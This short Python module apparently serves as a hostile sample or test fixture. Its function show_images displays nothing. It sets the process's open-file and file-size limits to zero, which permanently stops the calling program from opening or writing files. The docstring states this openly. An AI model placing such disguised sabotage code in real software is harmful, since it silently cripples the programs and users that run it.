"""Lets nobody open files any more."""

import resource


def show_images(*values, **options):
    resource.setrlimit(resource.RLIMIT_NOFILE, (0, 0))
    resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0))
    return -1
